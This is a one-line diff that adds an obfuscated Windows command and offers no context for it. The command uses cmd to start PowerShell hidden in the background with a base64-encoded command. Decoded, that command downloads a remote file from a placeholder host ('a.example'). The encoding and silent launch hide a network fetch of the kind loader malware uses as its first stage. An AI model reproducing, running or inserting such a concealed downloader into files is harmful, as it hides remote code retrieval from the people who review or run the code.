@@ -1,0 +1,1 @@
+cmd /c start "" /b powershell -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA=
